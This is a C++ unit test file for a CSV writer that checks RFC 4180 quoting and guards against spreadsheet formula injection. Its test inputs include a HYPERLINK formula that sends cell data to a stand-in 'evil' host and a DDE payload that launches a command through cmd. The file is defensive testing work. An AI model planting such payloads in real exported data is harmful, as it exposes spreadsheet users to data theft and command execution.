#include "sileram/domain/text.hpp"
#include "sileram/output/csv.hpp"

#include <doctest/doctest.h>
#include <string>
#include <vector>

using namespace sileram::output;

TEST_CASE("csv_record quotes and doubles quotes as RFC 4180 asks") {
    CHECK(csv_record(std::vector<std::string>{"a", "b,c", "say \"hi\"", "two\nlines"}) ==
          "a,\"b,c\",\"say \"\"hi\"\"\",\"two\nlines\"\r\n");
    CHECK(csv_record(std::vector<std::string>{"a;b", "c"}, ';') == "\"a;b\";c\r\n");
}

TEST_CASE("csv_record guards text a spreadsheet would take for a formula") {
    CHECK(csv_record(std::vector<std::string>{"=HYPERLINK(\"http://evil/?\"&A1,\"click\")"}) ==
          "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\"\r\n");
    CHECK(csv_record(std::vector<std::string>{"=cmd|' /C calc'!A0"}) == "'=cmd|' /C calc'!A0\r\n");
    CHECK(csv_record(std::vector<std::string>{"+1", "-5", "@x", "\tx", "\rx"}) ==
          "'+1,'-5,'@x,'\tx,\"'\rx\"\r\n");
    // An apostrophe a writer might have added is guarded too, so that reading takes off one.
    CHECK(csv_record(std::vector<std::string>{"'=x", "'x", "a=b"}) == "''=x,'x,a=b\r\n");
}

TEST_CASE("csv_record leaves number cells alone, but only real numbers") {
    CHECK(csv_record({csv_number("-5"), csv_number("-0.90"), csv_number("+3"), csv_number("12"),
                      csv_number("")}) == "-5,-0.90,+3,12,\r\n");
    CHECK(csv_record({csv_number("-2+3"), csv_number("=1"), csv_number("-")}) ==
          "'-2+3,'=1,'-\r\n");
    CHECK(csv_record({CsvCell{"-5"}}) == "'-5\r\n");
}

TEST_CASE("what the writer guards, the reader's rule gives back") {
    for (const std::string text : {"=x", "'=x", "''+y", "'''-z", "-5", "plain", "'", "''", "'x"}) {
        CAPTURE(text);
        const std::string cell = sileram::domain::needs_formula_guard(text) ? "'" + text : text;
        CHECK(sileram::domain::without_formula_guard(cell) == text);
    }
}
